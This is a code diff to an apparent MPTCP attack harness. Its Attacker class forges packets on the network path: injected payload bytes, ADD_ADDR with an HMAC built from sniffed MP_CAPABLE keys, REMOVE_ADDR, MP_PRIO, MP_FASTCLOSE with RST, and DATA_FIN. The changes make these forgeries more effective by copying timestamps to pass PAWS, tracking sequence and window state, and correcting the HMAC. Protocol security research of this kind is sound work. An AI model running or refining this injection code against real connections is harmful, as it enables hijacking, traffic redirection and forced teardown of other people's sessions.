@@ -68,6 +68,8 @@ class Action:
     drop: bool = False
     payload: bytes | None = None
     inject: list[bytes] = field(default_factory=list)
+    #: forged packets of the other direction, queued behind its held packets
+    inject_reverse: list[bytes] = field(default_factory=list)
 
 
 @dataclass
@@ -79,6 +81,12 @@ class _Flow:
     last_data_ack: int | None = None
     mptcp: bool = False
     history: list[bytes] = field(default_factory=list)
+    #: the latest (TSval, TSecr) this way: forged segments must pass PAWS
+    ts: tuple[int, int] | None = None
+    #: the next sequence number, the latest ACK and window this way (for forgeries)
+    snd_nxt: int | None = None
+    ack: int = 0
+    window: int = 0
 
 
 def mptcp_options(tcp: TCP) -> list[bytes]:
@@ -100,18 +108,20 @@ def _raw_options(tcp: TCP) -> list[tuple[Any, Any]]:
     return [tuple(o) for o in tcp.options]
 
 
-def _ts(tcp: TCP, swap: bool) -> list[tuple[Any, Any]]:
-    for kind, value in tcp.options:
-        if kind == "Timestamp":
-            return [("NOP", None), ("NOP", None),
-                    ("Timestamp", (value[1], value[0]) if swap else value)]
-    return []
+def _ts_option(fwd: _Flow | None, rev: _Flow | None) -> list[tuple[Any, Any]]:
+    """A timestamp option as the sender would write it now: its latest TSval, echoing the
+    peer's latest TSval (so the forgery is not dropped as an old duplicate by PAWS)."""
+    if fwd is None or fwd.ts is None:
+        return []
+    ecr = rev.ts[0] if rev is not None and rev.ts is not None else fwd.ts[1]
+    return [("NOP", None), ("NOP", None), ("Timestamp", (fwd.ts[0], ecr))]
 
 
 def add_addr_hmac(key_a: bytes, key_b: bytes, addr_id: int, addr: str) -> bytes:
-    """RFC 8684 §3.4.1: HMAC-SHA256(Key-A || Key-B, id || address), leftmost 64 bits."""
-    msg = bytes([addr_id]) + bytes(int(x) for x in addr.split("."))
-    return hmac.new(key_a + key_b, msg, hashlib.sha256).digest()[:8]
+    """RFC 8684 §3.4.1: HMAC-SHA256(Key-A || Key-B, id || address || port), rightmost 64
+    bits; without a port in the option the message still carries two zero octets."""
+    msg = bytes([addr_id]) + bytes(int(x) for x in addr.split(".")) + b"\0\0"
+    return hmac.new(key_a + key_b, msg, hashlib.sha256).digest()[-8:]
 
 
 @dataclass
@@ -123,10 +133,13 @@ class _Head:
     sport: int
     dport: int
     seq: int
+    ack: int
     flags: int
+    window: int
     payload_off: int
     total_len: int
     mptcp: list[bytes]
+    ts: tuple[int, int] | None = None
 
     @property
     def key(self) -> tuple[str, int, str, int]:
@@ -152,10 +165,12 @@ class _Head:
         total = int.from_bytes(raw[2:4], "big")
         if len(raw) < ihl + 20 or total > len(raw):
             return None
-        sport, dport, seq = struct.unpack_from("!HHI", raw, ihl)
+        sport, dport, seq, ack = struct.unpack_from("!HHII", raw, ihl)
+        window = int.from_bytes(raw[ihl + 14:ihl + 16], "big")
         doff = (raw[ihl + 12] >> 4) * 4
         flags = raw[ihl + 13]
         mptcp: list[bytes] = []
+        ts = None
         i, end = ihl + 20, min(ihl + doff, total)
         while i < end:  # TCP options: keep the kind-30 ones
             kind = raw[i]
@@ -169,9 +184,11 @@ class _Head:
             ln = raw[i + 1]
             if kind == MPTCP_KIND:
                 mptcp.append(raw[i + 2:i + ln])
+            elif kind == 8 and ln == 10 and i + 10 <= end:
+                ts = struct.unpack_from("!II", raw, i + 2)
             i += ln
         return cls(socket.inet_ntoa(raw[12:16]), socket.inet_ntoa(raw[16:20]), sport, dport,
-                   seq, flags, ihl + doff, total, mptcp)
+                   seq, ack, flags, window, ihl + doff, total, mptcp, ts)
 
 
 class Attacker:
@@ -233,6 +250,11 @@ class Attacker:
                 dlen = int.from_bytes(value[off + n + 4:off + n + 6], "big")
                 fl.last_dsn_end = dsn + dlen
 
+    def _ts(self, ip: IP, tcp: TCP, reverse: bool) -> list[tuple[Any, Any]]:
+        fwd = self.flows.get((ip.src, tcp.sport, ip.dst, tcp.dport))
+        rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport))
+        return _ts_option(rev, fwd) if reverse else _ts_option(fwd, rev)
+
     def _log(self, action: str, detail: str, ip: IP, tcp: TCP) -> None:
         self.changes.append(Change(self.packets, action, detail,
                                    f"{ip.src}:{tcp.sport}>{ip.dst}:{tcp.dport}"))
@@ -250,6 +272,13 @@ class Attacker:
             return Action()
         payload = raw[h.payload_off:h.total_len]
         fl = self._flow(h.key)
+        if h.ts is not None:
+            fl.ts = h.ts
+        end = (h.seq + len(payload) + (1 if h.flags & 0x03 else 0)) & 0xFFFFFFFF
+        if fl.snd_nxt is None or ((end - fl.snd_nxt) & 0xFFFFFFFF) < 0x80000000:
+            fl.snd_nxt = end
+        if h.flags & 0x10:
+            fl.ack, fl.window = h.ack, h.window
         cfg = self.cfg
         if (cfg is not None and cfg.name == "strip-mpc" and not self.done
                 and h.flags & 0x12 == 0x02 and h.direction == "c2s"
@@ -317,7 +346,7 @@ class Attacker:
             forged = os.urandom(512)
             pkt = (IP(src=ip.src, dst=ip.dst, id=ip.id + 1)
                    / TCP(sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack,
-                         flags="PA", window=tcp.window, options=_ts(tcp, False))
+                         flags="PA", window=tcp.window, options=self._ts(ip, tcp, False))
                    / Raw(forged))
             self._log("inject", f"512 forged bytes at subflow seq {seq_next} (in window, "
                       "right after this segment)", ip, tcp)
@@ -337,16 +366,18 @@ class Attacker:
             return Action(inject=[bytes(to_rcv), bytes(to_snd)])
         # the MPTCP-aware forgeries need MPTCP on this flow, some need its keys
         if not fl.mptcp:
-            self._log(name, "nothing to forge: no MPTCP option in clear on this flow", ip, tcp)
+            self._log("nothing", f"{name}: no MPTCP option in clear on this flow, nothing to "
+                      "read or forge", ip, tcp)
             return Action()
         if name in ("add-addr", "remove-addr", "mp-prio"):
             rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport), _Flow())
             if name == "add-addr":
                 if len(rev.keys) < 2:
-                    self._log(name, "no keys seen (MP_CAPABLE not on this path)", ip, tcp)
+                    self._log("nothing", f"{name}: no keys seen (MP_CAPABLE not on this path)",
+                              ip, tcp)
                     return Action()
                 mac = add_addr_hmac(rev.keys[0], rev.keys[1], 9, ATTACKER_ADDR)
-                value = bytes([0x20, 9]) + bytes(int(x) for x in ATTACKER_ADDR.split(".")) + mac
+                value = bytes([0x30, 9]) + bytes(int(x) for x in ATTACKER_ADDR.split(".")) + mac
                 detail = (f"ADD_ADDR id 9 {ATTACKER_ADDR} with the HMAC computed from the "
                           "keys read in MP_CAPABLE")
             elif name == "remove-addr":
@@ -355,35 +386,42 @@ class Attacker:
             else:
                 value = bytes([0x51])
                 detail = "MP_PRIO backup=1 for this subflow"
-            # towards the sender of this segment, as if from its peer
+            # towards the sender of this segment, as if from its peer, in the peer's
+            # sequence space as the router last saw it (queued behind the peer's segments)
             pkt = (IP(src=ip.dst, dst=ip.src)
-                   / TCP(sport=tcp.dport, dport=tcp.sport, seq=tcp.ack, ack=seq_next,
-                         flags="A", window=tcp.window,
-                         options=[*_ts(tcp, True), (MPTCP_KIND, value)]))
+                   / TCP(sport=tcp.dport, dport=tcp.sport,
+                         seq=rev.snd_nxt if rev.snd_nxt is not None else tcp.ack,
+                         ack=rev.ack or seq_next, flags="A", window=rev.window or tcp.window,
+                         options=[*self._ts(ip, tcp, True), (MPTCP_KIND, value)]))
             self._log(name, detail + f"; forged to {ip.src}", ip, tcp)
-            return Action(inject=[bytes(pkt)])
+            return Action(inject_reverse=[bytes(pkt)])
         if name == "mp-fastclose":
             if len(fl.keys) < 2:
-                self._log(name, "no keys seen (MP_CAPABLE not on this path)", ip, tcp)
+                self._log("nothing", f"{name}: no keys seen (MP_CAPABLE not on this path)",
+                          ip, tcp)
                 return Action()
             value = bytes([0x70, 0]) + fl.keys[1]
             pkt = (IP(src=ip.src, dst=ip.dst) / TCP(
                 sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack, flags="A",
-                window=tcp.window, options=[*_ts(tcp, False), (MPTCP_KIND, value)]))
+                window=tcp.window, options=[*self._ts(ip, tcp, False), (MPTCP_KIND, value)]))
             rst = (IP(src=ip.src, dst=ip.dst) / TCP(sport=tcp.sport, dport=tcp.dport,
                                                     seq=seq_next, flags="R"))
             self._log(name, f"MP_FASTCLOSE with the receiver's key {fl.keys[1].hex()} "
                       f"(read in MP_CAPABLE) to {ip.dst}", ip, tcp)
             return Action(inject=[bytes(pkt), bytes(rst)])
         if name == "data-fin":
-            if fl.last_dsn_end is None:
-                return None  # wait for a DSS mapping
+            rev = self.flows.get((ip.dst, tcp.dport, ip.src, tcp.sport), _Flow())
+            if fl.last_dsn_end is None or rev.last_data_ack is None:
+                return None  # wait for a mapping this way and a DATA_ACK the other way
+            # the receiver's next expected data seq: its latest DATA_ACK, or our latest
+            # mapping's end if that is further (the other subflows carry data too)
+            dsn = max(fl.last_dsn_end, rev.last_data_ack)
             dack = fl.last_data_ack or 0
-            value = (bytes([0x20, 0x1F]) + struct.pack("!QQIH", dack, fl.last_dsn_end, 0, 1))
+            value = bytes([0x20, 0x1F]) + struct.pack("!QQIH", dack, dsn, 0, 1)
             pkt = (IP(src=ip.src, dst=ip.dst) / TCP(
                 sport=tcp.sport, dport=tcp.dport, seq=seq_next, ack=tcp.ack, flags="A",
-                window=tcp.window, options=[*_ts(tcp, False), (MPTCP_KIND, value)]))
-            self._log(name, f"DATA_FIN at data seq {fl.last_dsn_end} to {ip.dst}", ip, tcp)
+                window=tcp.window, options=[*self._ts(ip, tcp, False), (MPTCP_KIND, value)]))
+            self._log(name, f"DATA_FIN at data seq {dsn} to {ip.dst}", ip, tcp)
             return Action(inject=[bytes(pkt)])
         return None
 
